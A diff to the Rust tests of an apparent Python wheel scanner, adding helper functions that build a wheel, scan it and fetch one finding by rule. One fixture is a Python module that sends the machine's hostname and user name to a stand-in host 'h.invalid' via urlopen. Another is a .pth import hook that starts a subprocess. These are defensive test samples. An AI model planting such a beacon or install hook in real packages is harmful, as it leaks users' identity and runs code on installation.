@@ -139,17 +139,37 @@ fn structural_attacks_are_block_findings_named_by_rule() {
     }
 }
 
-#[test]
-fn a_python_file_too_large_to_parse_is_reported_with_its_size_not_a_parse_error() {
-    // 17 MiB of ordinary code: more than the scanner holds of one member.
-    let body = "value = 1\n".repeat(17 * 1024 * 1024 / 10);
-    let wheel = hostile::base_wheel().file("demo/big.py", body).build();
-    let report = scan_archive(
+/// The base wheel with `files` added, scanned.
+fn scan_wheel(files: &[(&str, &str)]) -> wharf_scan::Report {
+    let wheel = files
+        .iter()
+        .fold(hostile::base_wheel(), |wheel, (path, text)| {
+            wheel.file(path, *text)
+        })
+        .build();
+    scan_archive(
         Cursor::new(&wheel),
         DistKind::BdistWheel,
         &Limits::default(),
     )
-    .unwrap();
+    .unwrap()
+}
+
+/// The report's finding of `rule`, which must be there.
+fn finding_of(report: wharf_scan::Report, rule: &str) -> wharf_scan::Finding {
+    let all = format!("{:?}", report.findings);
+    report
+        .findings
+        .into_iter()
+        .find(|f| f.rule == rule)
+        .unwrap_or_else(|| panic!("no {rule} in {all}"))
+}
+
+#[test]
+fn a_python_file_too_large_to_parse_is_reported_with_its_size_not_a_parse_error() {
+    // 17 MiB of ordinary code: more than the scanner holds of one member.
+    let body = "value = 1\n".repeat(17 * 1024 * 1024 / 10);
+    let report = scan_wheel(&[("demo/big.py", &body)]);
     let finding = report
         .findings
         .iter()
@@ -163,21 +183,11 @@ fn a_python_file_too_large_to_parse_is_reported_with_its_size_not_a_parse_error(
 #[test]
 fn a_pth_line_is_judged_by_what_the_module_it_imports_does() {
     let scan = |module: &str| {
-        let wheel = hostile::base_wheel()
-            .file("zz_hook.pth", "import pthhook\n")
-            .file("pthhook/__init__.py", module)
-            .build();
-        let report = scan_archive(
-            Cursor::new(&wheel),
-            DistKind::BdistWheel,
-            &Limits::default(),
-        )
-        .unwrap();
-        report
-            .findings
-            .into_iter()
-            .find(|f| f.rule == "install.pth-import")
-            .expect("the .pth line is reported")
+        let report = scan_wheel(&[
+            ("zz_hook.pth", "import pthhook\n"),
+            ("pthhook/__init__.py", module),
+        ]);
+        finding_of(report, "install.pth-import")
     };
     let active = scan("import subprocess\nsubprocess.Popen(['true'])\n");
     assert_eq!(active.severity, Severity::Quarantine);
@@ -196,21 +206,8 @@ fn a_function_another_module_calls_at_import_is_judged_as_import_time_code() {
     // warning in a function nobody calls.
     let helper = "import socket, getpass, urllib.request\n\ndef run():\n    who = socket.gethostname() + getpass.getuser()\n    urllib.request.urlopen('https://h.invalid/c', data=who.encode())\n";
     let scan = |init: &str| {
-        let wheel = hostile::base_wheel()
-            .file("demo/__init__.py", init)
-            .file("demo/helper.py", helper)
-            .build();
-        let report = scan_archive(
-            Cursor::new(&wheel),
-            DistKind::BdistWheel,
-            &Limits::default(),
-        )
-        .unwrap();
-        report
-            .findings
-            .into_iter()
-            .find(|f| f.rule == "code.host-beacon")
-            .expect("the beacon is found")
+        let report = scan_wheel(&[("demo/__init__.py", init), ("demo/helper.py", helper)]);
+        finding_of(report, "code.host-beacon")
     };
     for init in [
         "from .helper import run\nrun()\n",
